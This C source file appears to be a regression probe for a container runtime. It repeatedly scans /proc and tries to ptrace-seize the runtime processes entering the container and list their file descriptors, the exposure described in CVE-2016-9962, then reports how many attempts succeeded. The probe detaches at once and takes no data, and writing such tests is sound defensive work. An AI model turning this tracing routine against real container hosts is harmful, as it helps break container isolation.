/* peek SECONDS: tries to trace every process that comes into the container, and to read its descriptors, while it still
 * is the runtime (CVE-2016-9962). Says whether it was kept out of any, and what it got of the runtime. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static unsigned long denied, exposed, traced, listed;

/* Its own program is the runtime's memory file until it executes another. */
static int is_runtime (const char *pid)
{
	char path[PATH_MAX], program[PATH_MAX];

	snprintf (path, sizeof path, "/proc/%s/exe", pid);
	ssize_t length = readlink (path, program, sizeof program - 1);
	if (length < 0)
		denied += errno == EACCES;
	if (length <= 0)
		return 0;
	program[length] = 0;
	return strstr (program, "shibafu") != NULL;
}

static void attack (const char *pid)
{
	char path[PATH_MAX];
	int target = atoi (pid);

	exposed += (unsigned long) is_runtime (pid);
	snprintf (path, sizeof path, "/proc/%s/fd", pid);
	DIR *descriptors = opendir (path);
	if (descriptors) {
		listed += (unsigned long) is_runtime (pid);
		closedir (descriptors);
	}
	if (ptrace (PTRACE_SEIZE, target, NULL, NULL) == 0) {
		traced += (unsigned long) is_runtime (pid);
		/* Only what has stopped can be let go; held, it would be the last that came in. */
		ptrace (PTRACE_INTERRUPT, target, NULL, NULL);
		waitpid (target, NULL, __WALL);
		ptrace (PTRACE_DETACH, target, NULL, NULL);
	}
}

int main (int argc, char **argv)
{
	time_t end = time (NULL) + (argc > 1 ? atoi (argv[1]) : 1);

	while (time (NULL) < end) {
		struct dirent *entry;
		DIR *proc = opendir ("/proc");
		while (proc && (entry = readdir (proc)))
			if (isdigit ((unsigned char) entry->d_name[0]) && atoi (entry->d_name) != getpid ())
				attack (entry->d_name);
		if (proc)
			closedir (proc);
	}
	printf ("denied=%d exposed=%lu traced=%lu listed=%lu\n", denied > 0, exposed, traced, listed);
	return 0;
}
